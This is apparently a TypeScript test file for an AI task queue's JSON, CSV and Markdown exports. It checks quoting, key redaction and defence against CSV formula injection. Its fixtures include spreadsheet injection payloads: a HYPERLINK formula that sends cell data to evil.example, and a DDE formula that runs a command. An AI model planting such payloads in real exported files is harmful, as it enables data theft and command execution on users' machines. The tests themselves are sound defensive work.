import { strict as assert } from 'node:assert';
import { failure } from '../../../src/core/domain/failureClassifier';
import { CSV_COLUMNS, formatTaskExport, type JsonExport } from '../../../src/core/reports/taskExportFormats';
import { toExportRecord } from '../../../src/core/reports/taskExportRecord';
import type { Task } from '../../../src/core/domain/taskModel';
import { task, usage } from '../helpers/taskFixture';
import { verbatim } from '../../../src/core/domain/phrase';
import { phraseText } from '../../../src/views/format/phraseText';

const KEY = 'sk-live-0123456789abcdef';
const ctx = { redact: (t: string): string => t.split(KEY).join('«redacted»'), providerLabel: (id: string): string => (id === 'openai' ? 'OpenAI' : id), words: phraseText };

/** Tasks whose text exercises every quoting rule: commas, quotes, CR, LF, CRLF, leading spaces, backticks, pipes, unicode. */
const TRICKY: Task[] = [
  task('plain', { usage: usage(12, 34), costUsd: 0.000123, batchId: 'b1' }),
  task('quotes', { title: 'He said "hi", then left', output: 'line 1\nline 2\r\nline 3\r"quoted"', prompt: ' leading space', costUsd: null, usage: usage(1, 2, true) }),
  task('fences', { output: 'Here:\n```js\nconst a = 1;\n```\nand ```` four', title: 'a | b `c`', systemPrompt: 'be brief' }),
  task('failed', { status: 'failed', error: failure('TIMEOUT', verbatim(`Timed out; key ${KEY}`)), attempts: 3, retriedFailures: ['RATE_LIMITED', 'NETWORK'], output: `partial with ${KEY}` }),
  task('queued', { status: 'queued', startedAt: undefined, finishedAt: undefined, output: '' }),
  task('unicode', { title: 'Zürich 漢字 🙂', output: 'é\u2028x' }),
];

/** Text a spreadsheet would run as a formula (OWASP CSV injection), in every kind of text cell. */
const FORMULAS: Task[] = [
  task('eq', { title: '=HYPERLINK("http://evil.example/?"&A1,"click")', prompt: '=1+2', output: '=cmd|\' /C calc\'!A0', costUsd: -0.25 }),
  task('plus', { title: '+1', prompt: '+SUM(A1:A9)', output: '+', usage: usage(5, 7) }),
  task('minus', { title: '-2+3', prompt: '- a bullet', output: '-' }),
  task('at', { title: '@SUM(1)', prompt: '@', output: '@cell' }),
  task('tab', { title: '\t=1', prompt: '\tindented', output: '\t' }),
  task('cr', { title: '\r=1', prompt: '\rline', output: '\r\n=2' }),
  task('failedFormula', { status: 'failed', error: failure('BAD_REQUEST', verbatim('=ERROR()')), output: 'fine = not at start' }),
];

/** What the writer must put in a text cell: OWASP's rule, spelled out independently of the writer. */
function asCellText(value: string | number | boolean | null | undefined): string {
  if (value === undefined || value === null) return '';
  if (typeof value !== 'string') return String(value);
  return ['=', '+', '-', '@', '\t', '\r'].includes(value.charAt(0)) ? `'${value}` : value;
}

/** A minimal RFC 4180 reader, independent of the writer under test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      assert.ok(c !== '\r' && c !== '\n' && c !== '"', `unquoted ${JSON.stringify(c)} at ${i}`);
      field += c;
    }
  }
  assert.equal(field, '', 'the file ends with CRLF');
  assert.equal(row.length, 0);
  return rows;
}

describe('task export', () => {
  const records = TRICKY.map((t) => toExportRecord(t, ctx));

  it('JSON parses back to exactly the exported records', () => {
    const parsed = JSON.parse(formatTaskExport(records, 'json', '2025-03-10T12:00:00.000Z', phraseText)) as JsonExport;
    assert.equal(parsed.format, 'ai-task-queue/export');
    assert.deepEqual(parsed.tasks, records);
  });

  it('CSV parses back (RFC 4180) to the same values, one row per task, columns in order', () => {
    const rows = parseCsv(formatTaskExport(records, 'csv', 'now', phraseText));
    assert.deepEqual(rows[0], CSV_COLUMNS.map(([name]) => name));
    assert.equal(rows.length, records.length + 1);
    records.forEach((r, i) => {
      assert.deepEqual(rows[i + 1], CSV_COLUMNS.map(([, value]) => asCellText(value(r))), r.id);
    });
    const quotes = rows[2]!;
    assert.equal(quotes[CSV_COLUMNS.findIndex(([n]) => n === 'output')], 'line 1\nline 2\r\nline 3\r"quoted"');
    assert.equal(quotes[CSV_COLUMNS.findIndex(([n]) => n === 'costUsd')], 'unknown', 'an unknown price is never an empty (free-looking) cell');
  });

  it('CSV shows every text cell starting with = + - @ tab or CR as text (a leading quote), never a number cell', () => {
    const formulaRecords = FORMULAS.map((t) => toExportRecord(t, ctx));
    const rows = parseCsv(formatTaskExport(formulaRecords, 'csv', 'now', phraseText));
    const column = (name: string): number => CSV_COLUMNS.findIndex(([n]) => n === name);
    const cells = rows.slice(1);
    // Every cell that is text: none may start with a formula character after the writer's prefix.
    for (const row of cells) {
      for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell), `cell ${JSON.stringify(cell)} would run as a formula`);
    }
    const [eq, plus, minus, at, tab, cr, failed] = cells as string[][];
    assert.equal(eq![column('title')], `'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    assert.equal(eq![column('prompt')], "'=1+2");
    assert.equal(eq![column('output')], "'=cmd|' /C calc'!A0");
    assert.equal(eq![column('costUsd')], '-0.25', 'a negative cost stays a number');
    assert.equal(plus![column('title')], "'+1");
    assert.equal(plus![column('output')], "'+");
    assert.equal(plus![column('inputTokens')], '5');
    assert.equal(minus![column('title')], "'-2+3");
    assert.equal(minus![column('prompt')], "'- a bullet");
    assert.equal(at![column('title')], "'@SUM(1)");
    assert.equal(at![column('prompt')], "'@");
    assert.equal(tab![column('title')], "'\t=1");
    assert.equal(tab![column('output')], "'\t");
    assert.equal(cr![column('title')], "'\r=1");
    assert.equal(cr![column('output')], "'\r\n=2");
    assert.equal(failed![column('errorMessage')], "'=ERROR()");
    assert.equal(failed![column('output')], 'fine = not at start', 'a formula character later in the text changes nothing');
    assert.equal(failed![column('status')], 'failed');
  });

  it('JSON and Markdown keep formula-looking text exactly as it was', () => {
    const formulaRecords = FORMULAS.map((t) => toExportRecord(t, ctx));
    const parsed = JSON.parse(formatTaskExport(formulaRecords, 'json', 'now', phraseText)) as JsonExport;
    assert.deepEqual(parsed.tasks, formulaRecords);
    assert.equal(parsed.tasks[0]!.prompt, '=1+2');
    const md = formatTaskExport(formulaRecords, 'markdown', 'now', phraseText);
    assert.ok(md.includes('=1+2') && !md.includes("'=1+2"), 'Markdown is unchanged');
  });

  it('Markdown fences are longer than any backtick run inside, so output cannot break out', () => {
    const md = formatTaskExport(records, 'markdown', 'now', phraseText);
    assert.ok(md.includes('`````text\nHere:\n```js\nconst a = 1;\n```\nand ```` four\n`````'));
    assert.match(md, /\| a \\\| b \\`c\\` \|/, 'table cells escape pipes and backticks');
    assert.match(md, /## 4\. Task failed/);
  });

  it('Markdown escapes only markup: model ids, file names and parentheses read as typed; costs are rounded as the panel rounds them', () => {
    const plain = [task('plain', { title: 'Review src/app.ts (v1.2) - quick!', model: 'gpt-4.1-mini', usage: usage(12, 34), costUsd: 0.000123 })].map((t) => toExportRecord(t, ctx));
    const md = formatTaskExport(plain, 'markdown', 'now', phraseText);
    assert.ok(md.includes('## 1. Review src/app.ts (v1.2) - quick!'), md);
    assert.ok(md.includes('OpenAI · gpt-4.1-mini'), md);
    assert.ok(md.includes('| $0.00012 |') && md.includes('**Cost:** $0.00012'), 'the panel shows $0.00012 for 0.000123 (formatUsd), never $0.0001');
    const markup = [task('markup', { title: 'a *b* _c_ [d](e) <f> ~~g~~ &amp; ##' })].map((t) => toExportRecord(t, ctx));
    assert.ok(formatTaskExport(markup, 'markdown', 'now', phraseText).includes('## 1. a \\*b\\* \\_c\\_ \\[d\\](e) \\<f\\> \\~\\~g\\~\\~ \\&amp; \\##'));
  });

  it('never contains a key, in any format', () => {
    for (const format of ['json', 'csv', 'markdown'] as const) {
      const text = formatTaskExport(records, format, 'now', phraseText);
      assert.ok(!text.includes(KEY), `${format} leaks the key`);
      assert.ok(text.includes('«redacted»'), `${format} lost the redacted text`);
    }
  });

  it('records carry times as ISO strings and derived durations', () => {
    const r = records[0]!;
    assert.equal(r.createdAt, '2025-03-10T12:00:00.000Z');
    assert.equal(r.durationMs, 1000);
    assert.equal(r.provider, 'OpenAI');
    assert.equal(records[4]!.startedAt, undefined);
  });
});
